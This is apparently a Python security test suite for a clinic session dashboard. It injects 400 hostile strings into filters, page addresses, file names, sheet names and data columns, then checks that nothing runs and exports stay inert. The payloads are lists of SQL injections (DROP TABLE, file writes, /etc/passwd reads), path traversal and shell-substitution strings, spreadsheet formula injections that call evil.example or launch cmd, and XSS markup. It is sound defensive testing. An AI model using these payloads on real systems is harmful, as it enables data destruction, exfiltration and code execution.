"""Texts that would do harm where text is taken for more than text, and every place where a text comes in.

    python -m tests.security.payloads

100 each of SQL, paths, formulas and markup: in every filter, in every word of every page's address, as file, sheet and header names,
and in every column. Nothing may happen: the tables stay as they are, no file appears, and pages and exports show them as text.
"""

import contextlib
import io
import json
import os
import re
import sys
import tempfile
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl

import etl
from dashboard import cli
from dashboard.pages import PAGES
from dashboard.selection import COLUMNS
from etl.store import current
from tests.dashboard.conftest import open_page, pieces, plain
from tests.dashboard.test_every_page import markdown_of

KEY = bytes(range(32))
SQL = ("' OR 1=1 --", "'; DROP TABLE sessions; --", '"; DROP TABLE new.sessions; --', "'); DELETE FROM session_rows; --",
       "'; COPY (SELECT 1) TO '{root}/pwned.csv'; --", "'; ATTACH '{root}/pwned.duckdb' AS x; --", "'; EXPORT DATABASE '{root}/pwned'; --",
       "'; INSTALL httpfs; LOAD httpfs; --", "'; SET enable_external_access=true; --", "x' UNION SELECT value FROM meta --",
       "read_csv('/etc/passwd')", "$start", "$1", "?", "%", "_%_", "{where}", "{columns}", "\\'; DROP TABLE files; --", "'||(SELECT 1)||'",
       "/* */ --", "NULL::INT", "1; SELECT 1", "’; DROP TABLE sessions; --", "E'\\x27'")
SQL_AROUND = ("{}", "Ann {}", "{} Lee", '("{}")')
PATHS = ("../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\x", "file:///etc/passwd", "....//....//x", "%2e%2e%2fpwned",
         "..%c0%afpwned", "{root}/pwned", "{root}/data/../pwned", "CON", "NUL", "~/pwned", "$HOME/pwned", "`touch {root}/pwned`",
         "$(touch {root}/pwned)", "|touch {root}/pwned", "; touch {root}/pwned;", "\\\\evil.example\\share\\x", "http://evil.example/x", "s3://evil/x",
         "*", "CURRENT", "../CURRENT", "../../ledger.jsonl")
PATH_AROUND = ("{}", "{}.csv", "{}.duckdb", "{}/x")
FORMULAS = ("cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', 'WEBSERVICE("http://evil.example")', 'IMPORTXML("http://evil.example","//a")',
            "1+1", "SUM(1,2)*3", 'DDE("cmd";"/C calc";"x")', "A1", '"x"&"y"', "RAND()", "2+5+cmd|'/C notepad'!A0", "INDIRECT(\"A1\")",
            'IMAGE("http://evil.example/x.png")', "rundll32|'URL.dll,OpenURL x'!A", "{1,2}", "NOW()", "@SUM(1)", "+1", "-1", "=1")
FORMULA_AROUND = ("={}", "+{}", "-{}", "@{}", "\t={}")
MARKUP = ("<script>alert('evil')</script>", "<img src=x onerror=alert('evil')>", "<a href='https://evil.example'>x</a>", "[evil](https://evil.example)",
          "![evil](https://evil.example/x.png)", ":red[evil]", "$evil^2$", "**evil**", "`evil`", "# evil", "<svg onload=alert('evil')>", "&lt;b&gt;evil",
          "<iframe src='https://evil.example'></iframe>", ":material/delete: evil", "javascript:alert('evil')", "https://evil.example/x", "www.evil.example",
          "evil@evil.example", ":smile: evil", "<b>evil</b><br>", '#read("/etc/passwd") evil', "\\u003cscript\\u003eevil", "{{7*7}} ${7*7} evil",
          "</script><script>alert('evil')</script>", "\" onmouseover=\"alert('evil')")
MARKUP_AROUND = ("{}", "Ann {}", "{} Lee", "({})")
LIVE = re.compile(r"(?<!\\)(<\s*/?(script|img|a |svg|iframe|b>)|\]\(|:red\[|\*\*evil\*\*|`evil|\$evil|:material/del|:smile:)|https?\\?://evil|www\\?\.evil|@evil", re.IGNORECASE)
"""What markdown would bring to life."""
WORDS = ("from", "to", *COLUMNS, "week", "client", "session", "view", "unit", "of", "by", "scale", "technique", "range", "kind", "code")
RUN = ("=", "+", "-", "@", "\t", "\r")
TEXTS = ("client", "clinic", "therapist", "techniques", "body_area", "complaint", "presentation", "onset", "posture", "red_flags", "status", "time", "age",
         "pain_followup")
HEAD = ("session_id", "client", "date", "therapist", "pain_before", "pain_after")


def payloads(root: Path) -> dict[str, list[str]]:
    """kind → its 100 texts; those that write name a place below `root`."""
    kinds = {"sql": (SQL, SQL_AROUND), "path": (PATHS, PATH_AROUND), "formula": (FORMULAS, FORMULA_AROUND), "markup": (MARKUP, MARKUP_AROUND)}
    return {kind: [around.replace("{}", text).replace("{root}", str(root)) for around in arounds for text in texts]
            for kind, (texts, arounds) in kinds.items()}


class Watch:
    """What a clinic's folder and its surroundings were; `effects` says what is different."""

    def __init__(self, root: Path, data: Path):
        self.root, self.data = root, data
        self.before = self._now()

    def effects(self) -> list[str]:
        """Files that came or changed outside the data folder, and whether the tables did."""
        now = self._now()
        return sorted({f"{name}: {self.before.get(name)} → {now.get(name)}" for name in self.before.keys() | now.keys()
                       if self.before.get(name) != now.get(name)})

    def _now(self) -> dict:
        outside = {str(path.relative_to(self.root)): path.stat().st_size for path in self.root.rglob("*")
                   if path.is_file() and self.data not in path.parents}
        return outside | {"the sessions": etl.check(self.data)["ok"] and current(etl.Folder(self.data))}


def outcomes(*words: str) -> tuple[int, str]:
    """Runs the command line; (exit status, all it printed)."""
    out, said = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(said):
        try:
            status = cli.main(list(words))
        except SystemExit as end:
            status = end.code
    return status, out.getvalue() + said.getvalue()


def filters(data: Path, texts: list[str]) -> list[str]:
    """Every filter of the command line with each text (and a word more, for the text is a name here): nothing found, or one sentence."""
    wrong = []
    for number, text in enumerate(texts):
        asked = [("--where", f"{column}={text} nobody") for column in COLUMNS] + [("--by", text), ("--from", text), ("--to", text), ("--unit", text)]
        for words in asked if number % 10 == 0 else [asked[number % len(asked)]]:
            status, said = outcomes("measure", "summary", *words, "--data", str(data), "--json")
            rows = json.loads(said)["rows"] if status == 0 else []
            if "Traceback" in said or "met a fault" in said or any(row["sessions"] for row in rows):
                wrong.append(f"{words}: {said[:200]}")
    return wrong


def addresses(monkeypatch, data: Path, texts: list[str], pages=tuple(PAGES)) -> list[str]:
    """Every page with each text in every word of its address: it opens, and shows the text as text."""
    wrong = []
    for number, text in enumerate(texts):
        module = PAGES[pages[number % len(pages)]].module
        app = open_page(monkeypatch, data, module, **{word: text for word in WORDS})
        wrong += [f"{module}, {text}: {told}" for told in _live(app)]
    return wrong


def _live(app) -> list[str]:
    """What is wrong with a page: exceptions, texts that markdown would bring to life, and tags of the data in pieces of HTML."""
    elements = _Elements()
    elements.feed("".join(pieces(app)))
    found = [f"exception {box.value}" for box in app.exception] + elements.wrong
    return found + [f"{kind}: {part[:200]}" for kind, part in markdown_of(app._tree) if "evil" in part.lower() and LIVE.search(part)]


def shown(app) -> int:
    """How many texts of the page hold a payload: a search that meets none would prove nothing."""
    texts = [part for _, part in markdown_of(app._tree)] + [line for piece in pieces(app) for line in plain(piece).splitlines()]
    return sum("evil" in text.lower() for text in texts)


def log(folder: Path, texts: list[str]) -> Path:
    """A log with each text in every column of text and as a score, a date, and the name of a column."""
    columns = [*HEAD, *TEXTS[1:2], *TEXTS[3:]]
    rows = [[f"S{n}-{again}", text if again % 2 else f"C{n}", f"2026-11-{1 + (n + again) % 22:02}", text, str(4 + again % 5), str(again % 4),
             *([text] * 4 if again < 8 else ["Room", "Swedish", "Neck", "Stiff"]), "acute", text, text, text, "attended", "10:00", "40", ""]
            for n, text in enumerate(texts) for again in range(12)]
    rows += [[text, text, text, text, text, text, *[text] * (len(columns) - 6)] for text in texts]
    path = folder / "log.xlsx"
    book = openpyxl.Workbook()
    book.active.title = re.sub(r"[\[\]:*?/\\]", "", texts[0])[:31] or "x"
    for row in ([*columns, *(text for text in texts[:20])], *rows):
        book.active.append([_writable(cell) for cell in row])
    for cells in book.active.iter_rows():
        for cell in cells:
            cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
    book.save(path)
    return path


def _writable(text: str) -> str:
    return re.sub(r"[\x00-\x08\x0b-\x1f]", "", text)


def clinic(root: Path, texts: list[str]) -> Path:
    """A data folder with that log loaded under each text as its name, as the Import page would."""
    data = root / "data"
    data.mkdir()
    (data / "pseudonym.key").write_bytes(KEY)
    path = log(root, texts)
    etl.load(path, data, names=[texts[0]], upload=True, swapped="no")
    for text in texts:
        path.write_text(f"client,date,therapist,pain_before,pain_after,{text.replace(',', ' ')}\nC1,2026-11-20,{text.replace(',', ' ')},6,4\n", encoding="utf-8")
        etl.propose(path, data, name=text)
        etl.load(path, data, names=[text], upload=True)
    path.unlink()
    return data


def exports(data: Path, place: Path) -> list[str]:
    """Every export of the clinic: no cell runs, no element or link is made of a text."""
    wrong = []
    for kind in ("xlsx", "csv", "html", "pdf"):
        path = place / f"report.{kind}"
        status, said = outcomes("report", "--from", "2026-11-01", "--to", "2026-11-22", "--format", kind, "--output", str(path), "--data", str(data))
        wrong += [f"report {kind}: {said}"] if status else READERS[kind](path)
    outcomes("held", "--export", str(place / "held.csv"), "--data", str(data))
    return wrong + _csv("held.csv", (place / "held.csv").read_text(encoding="utf-8-sig"))


def _csv(name: str, text: str) -> list[str]:
    import csv

    return [f"{name}: {cell}" for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(RUN) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?(e-?\d+)?", cell)]


def _zip(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [told for name in archive.namelist() for told in _csv(name, archive.read(name).decode("utf-8-sig"))]


def _xlsx(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [f"xlsx: {cell.value}" for cell in cells if cell.data_type == "f" or cell.hyperlink]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attributes):
        risky = tag in ("iframe", "img", "object", "embed", "a", "base", "form") or any(name.startswith("on") for name, _ in attributes)
        if risky or any("evil" in (value or "") for _, value in attributes):
            self.wrong.append(f"html: <{tag} {attributes}>"[:200])


def _html(path: Path) -> list[str]:
    elements, content = _Elements(), path.read_text(encoding="utf-8")
    elements.feed(content)
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", content, re.DOTALL)
    return elements.wrong + [f"script: {one[:200]}" for one in scripts if one.startswith("alert")]


READERS = {"xlsx": _xlsx, "csv": _zip, "html": _html, "pdf": lambda path: [] if path.read_bytes().startswith(b"%PDF") else ["no pdf"]}


def all_of(monkeypatch, root: Path, texts: list[str], pages=tuple(PAGES), every=True) -> tuple[int, list[str]]:
    """(texts of pages that held a payload, everything that went wrong) for these payloads in all places."""
    data = clinic(root, texts)
    watch, seen, wrong = Watch(root, data), 0, []
    wrong += filters(data, texts)
    wrong += addresses(monkeypatch, data, texts, pages)
    for module in [PAGES[page].module for page in pages] if every else []:
        app = open_page(monkeypatch, data, module)
        seen += shown(app)
        wrong += [f"{module}: {told}" for told in _live(app)]
    place = root / "exports"
    place.mkdir()
    wrong += exports(data, place)
    for path in place.iterdir():
        path.unlink()
    return seen, wrong + watch.effects()


def main() -> int:
    """All 400, twenty at a time in a clinic of their own."""
    import pytest

    os.environ["OUTCOMES_TODAY"] = "2026-11-23"
    clock, wrong, seen, count = time.perf_counter(), [], 0, 0
    with tempfile.TemporaryDirectory() as place, pytest.MonkeyPatch.context() as monkeypatch:
        for kind in ("sql", "path", "formula", "markup"):
            for start in range(0, 100, 20):
                root = Path(place) / f"{kind}-{start}"
                root.mkdir()
                texts = payloads(root)[kind][start:start + 20]
                found, problems = all_of(monkeypatch, root, texts)
                seen, count, wrong = seen + found, count + len(texts), wrong + problems
                print(f"{count} payloads, {len(wrong)} effects", file=sys.stderr, flush=True)
    print(f"{count} payloads in {time.perf_counter() - clock:.0f} s; {seen} texts of pages held one; effects: {len(wrong)}", *wrong[:40], sep="\n  ")
    return bool(wrong)


if __name__ == "__main__":
    sys.exit(main())
